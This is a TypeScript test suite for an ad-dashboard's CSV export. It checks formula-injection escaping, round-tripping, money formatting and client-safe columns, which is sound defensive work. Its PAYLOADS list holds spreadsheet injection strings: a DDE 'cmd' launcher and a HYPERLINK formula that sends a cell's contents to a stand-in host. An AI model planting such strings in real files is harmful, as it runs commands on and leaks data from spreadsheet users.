import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { EntitiesView, EntityRow, Overview } from '../../../src/contract/dashboards.ts';
import { labelOf, METRICS } from '../../../src/contract/metrics.ts';
import { decimalFromMicros } from '../../../src/main/domain/money.ts';
import { localDay } from '../../../src/main/domain/days.ts';
import { entitiesCsv, performanceCsv } from '../../../src/main/features/exports/csv.ts';

const sums = {
  spendMicros: 12_345_670_001,
  impressions: 1000,
  clicks: 3,
  linkClicks: null,
  conversions: 0.5,
  conversionValueMicros: 0,
};

function row(change: Partial<EntityRow>): EntityRow {
  return {
    platform: 'meta',
    adAccountId: '361744628296290',
    level: 'campaign',
    entityId: '120210000000000001',
    name: 'Spring',
    parentId: null,
    parentName: null,
    status: 'active',
    platformStatus: 'ACTIVE',
    objective: 'OUTCOME_SALES',
    dailyBudgetMicros: null,
    currency: 'PLN',
    current: sums,
    previous: null,
    settling: true,
    ...change,
  };
}

const view = (...rows: EntityRow[]): EntitiesView => ({ rows, totals: [], business: [], asOf: null });
const read = (csv: string): Record<string, string>[] =>
  parse(csv, { bom: true, columns: true, relax_column_count: false, record_delimiter: '\r\n' });

/** What a spreadsheet may take for a formula, whatever invisible comes before it. */
const FORMULA = /^[^\p{L}\p{N}\p{P}\p{S}]*[=+\-@＝＋－＠]/u;

const heads = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '  @',
  '\ufeff=',
  '\u00a0=',
  '\u200b=',
  '\u202e=',
  '＝',
  '＋',
  '－',
  '＠',
];
const bodies = ['cmd|" /C calc"!A0', 'HYPERLINK("http://x.example/?"&A1,"y")', 'SUM(A1:A9)', '1+1'];
const PAYLOADS = [
  ...heads.flatMap((head) => bodies.map((body) => head + body)),
  '-2+3+cmd|" /C calc"!D2',
  '\u0000=1+1',
  '\t1',
  '\r\n=1',
];

describe('the campaigns file', () => {
  it('runs nothing in a spreadsheet and keeps every name readable', () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(60);
    const { csv } = entitiesCsv(
      view(...PAYLOADS.map((name) => row({ name, parentName: name, objective: name, entityId: name, currency: name }))),
      'campaign',
      { today: '2026-11-21' },
    );
    const records = read(csv);
    expect(records).toHaveLength(PAYLOADS.length);
    for (const [index, record] of records.entries()) {
      for (const cell of Object.values(record)) expect(cell).not.toMatch(FORMULA);
      expect(record['Name']).toBe(`'${PAYLOADS[index]?.replaceAll('\u0000', '\ufffd')}`);
    }
  });

  it('comes back as it was, whatever is in the names', () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.oneof(
            fc.string({ unit: 'binary', maxLength: 30 }),
            fc.string({
              unit: fc.constantFrom('"', ',', ';', '\n', '\r', '\t', "'", '=', 'ą', '漢', '🌞', ' '),
              maxLength: 12,
            }),
          ),
          { minLength: 5, maxLength: 5 },
        ),
        (names) => {
          const { csv, rows } = entitiesCsv(view(...names.map((name) => row({ name }))), 'campaign', {
            today: '2026-11-21',
          });
          const records = read(csv);
          expect(records.map((record) => record['Currency'])).toEqual(names.map(() => 'PLN'));
          expect(rows).toBe(names.length);
          for (const [index, name] of names.entries()) {
            const clean = name.toWellFormed().replaceAll('\u0000', '\ufffd');
            expect([clean, `'${clean}`]).toContain(records[index]?.['Name']);
          }
        },
      ),
      { numRuns: 200 },
    );
  });

  it('reads the same for a program that knows only plain line ends and one that knows semicolons', () => {
    const names = ['a\nb', 'c\rd', 'e;f', 'g\th', 'i"j', 'k,l'];
    const { csv } = entitiesCsv(view(...names.map((name) => row({ name }))), 'ad_group', { today: '2026-11-21' });
    for (const delimiter of [['\n'], ['\r\n', '\n', '\r']]) {
      const records: Record<string, string>[] = parse(csv, { bom: true, columns: true, record_delimiter: delimiter });
      expect(records.map((record) => record['Name'])).toEqual(names);
    }
    expect(csv.startsWith('\ufeff')).toBe(true);
  });

  it('holds exact money, what a screen shows, and nothing for what was not reported', () => {
    const file = entitiesCsv(view(row({})), 'ad_group', { today: '2026-11-21' });
    expect(file.fileName).toBe('ad-groups-2026-11-21.csv');
    const [record] = read(file.csv);
    expect(record).toMatchObject({
      Platform: 'Meta Ads',
      ID: '120210000000000001',
      [labelOf(METRICS.spend)]: decimalFromMicros(sums.spendMicros),
      [labelOf(METRICS.linkClicks)]: '',
      [labelOf(METRICS.conversions)]: '0.5',
      [labelOf(METRICS.conversionValue)]: '0',
      [labelOf(METRICS.ctr)]: (METRICS.ctr.derive(sums) ?? 0).toFixed(4).replace(/\.?0+$/, ''),
      Settling: 'yes',
    });
  });
});

describe('the performance file', () => {
  it('has a row per day and currency, empty where nothing was read, and sums to the totals', () => {
    const point = (day: string, spendMicros: number | null, state: 'missing' | 'settled') => ({
      ...sums,
      spendMicros,
      day,
      state,
      restated: false,
      previousDay: null,
      previous: null,
    });
    const overview = {
      client: { id: '1', name: 'Żabka & Söhne', city: null },
      business: [],
      blocks: ['PLN', 'EUR'].map((currency) => ({
        currency,
        daily: [point('2026-11-01', 70_000, 'settled'), point('2026-11-02', null, 'missing')],
      })),
    } as unknown as Overview;
    const file = performanceCsv(overview, { range: { from: '2026-11-01', to: '2026-11-02' } });
    expect(file).toMatchObject({ fileName: 'zabka-sohne-performance-2026-11-01_2026-11-02.csv', rows: 4 });
    const records = read(file.csv);
    expect(
      records.map((record) => [record['Date'], record['Currency'], record[labelOf(METRICS.spend)], record['State']]),
    ).toEqual([
      ['2026-11-01', 'PLN', '0.07', 'settled'],
      ['2026-11-02', 'PLN', '', 'missing'],
      ['2026-11-01', 'EUR', '0.07', 'settled'],
      ['2026-11-02', 'EUR', '', 'missing'],
    ]);
  });
});

it('a file is dated with the day where its reader is', () => {
  const before = process.env['TZ'];
  const late = Date.parse('2026-11-21T23:30:00Z');
  try {
    process.env['TZ'] = 'Asia/Tokyo';
    expect(localDay(late)).toBe('2026-11-22');
    process.env['TZ'] = 'America/Los_Angeles';
    expect(localDay(late)).toBe('2026-11-21');
  } finally {
    if (before === undefined) delete process.env['TZ'];
    else process.env['TZ'] = before;
  }
});

describe('a file a client may have', () => {
  const { spendMicros: _, ...shown } = sums;
  const business = [{ name: '=Leady', kind: 'lead' as const, missing: null }];
  const named = { named: { '=Leady': 8 } };

  it("has columns for the client's own names, and what one costs", () => {
    const { csv } = entitiesCsv({ ...view(row({ current: { ...sums, ...named } })), business }, 'campaign', {
      today: '2026-11-21',
    });
    const [record] = read(csv);
    expect(record).toMatchObject({ "'=Leady": '8' });
    expect(Object.keys(record ?? {}).at(-2)).toMatch(/^Cost per =leady$/);
  });

  it('has no column of cost and no id, whatever is in the figures', () => {
    for (const current of [
      { ...shown, ...named },
      { ...sums, ...named },
    ]) {
      const { csv } = entitiesCsv({ ...view(row({ current })), business }, 'campaign', {
        today: '2026-11-21',
        clientSafe: true,
      });
      const [record] = read(csv);
      expect(Object.keys(record ?? {})).toEqual([
        'Platform',
        'Belongs to',
        'Level',
        'Name',
        'Status',
        'Objective',
        'Currency',
        'Impressions',
        'Clicks',
        'Link clicks',
        'Click-through rate',
        'Conversions',
        'Conversion rate',
        'Conversion value',
        "'=Leady",
        'Settling',
      ]);
    }
  });
});
